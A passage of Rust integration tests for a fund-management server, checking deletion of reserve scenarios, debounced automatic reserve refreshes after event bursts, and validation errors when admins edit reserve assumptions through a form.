    let (s, _) = app.call("DELETE", &format!("{url}/{a}"), None).await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (_, html) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves")).await;
    assert!(!html.contains("Base case") && html.contains("Seed 2"), "the tab's list (kept per revision) forgets the deleted one");
    let (s, _) = app.call("DELETE", &format!("{url}/{a}"), None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn new_events_queue_one_fresh_ranking_for_today_once_the_fund_is_quiet() {
    let app = spawn_with(&[("RESERVE_WORKER", "false")]).await;
    let fund = portfolio(&app, 3).await;
    // A burst of appends, then quiet: one run, not one per append.
    for i in 0..5 {
        let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": "CAPITAL_CALLED", "payload": {"amount": (1000 + i).to_string()}}]})).await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    assert_eq!(server::reserves::refresher::refresh_once(&app.store, 10_000).await.unwrap(), 0, "not while events are still arriving");
    tokio::time::sleep(server::reserves::refresher::QUIET_FOR + Duration::from_millis(300)).await;
    assert_eq!(server::reserves::refresher::refresh_once(&app.store, 10_000).await.unwrap(), 1);
    assert_eq!(server::reserves::refresher::refresh_once(&app.store, 10_000).await.unwrap(), 0, "nothing new since");
    let actor: String = sqlx::query_scalar("SELECT requested_by_actor FROM reserve_runs").fetch_one(app.store.pool()).await.unwrap();
    assert!(actor.starts_with("automatic refresh"), "{actor}");
}

#[tokio::test]
async fn admins_edit_assumptions_from_the_tab_with_errors_naming_the_field() {
    let app = spawn_with(&[("RESERVE_WORKER", "false")]).await;
    let fund = portfolio(&app, 2).await;
    let form = |body: String| {
        let req = Request::post("/sfn/set_reserve_assumptions")
            .header("authorization", format!("Bearer {}", app.token))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Body::from(body))
            .unwrap();
        let router = app.router.clone();
        async move {
            let res = router.oneshot(req).await.unwrap();
            let status = res.status();
            (status, String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap())
        }
    };
    let enc = |s: &str| -> String { form_urlencoded_like(s) };
    let before = app.event_count().await;
    let (s, body) = form(format!("fund_id={fund}&assumptions={}", enc(r#"{"model": {"stages": {"seed": {"exit": "lots"}}}}"#))).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body.contains("model.stages.seed.exit"), "{body}");
    let (s, body) = form(format!("fund_id={fund}&assumptions={}", enc(r#"{"constraints": {"hurdle": -1}}"#))).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body.contains("constraints.hurdle"), "{body}");
    assert_eq!(app.event_count().await, before, "nothing written");
    let (s, body) = form(format!("fund_id={fund}&assumptions={}", enc(r#"{"constraints": {"hurdle": 1.1}}"#))).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let (_, v) = app.get(&format!("/api/funds/{fund}/reserves/assumptions")).await;
    assert_eq!(v["parameters"]["constraints"]["hurdle"]["value"], 1.1, "{v}");
}

fn form_urlencoded_like(s: &str) -> String {
    s.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}
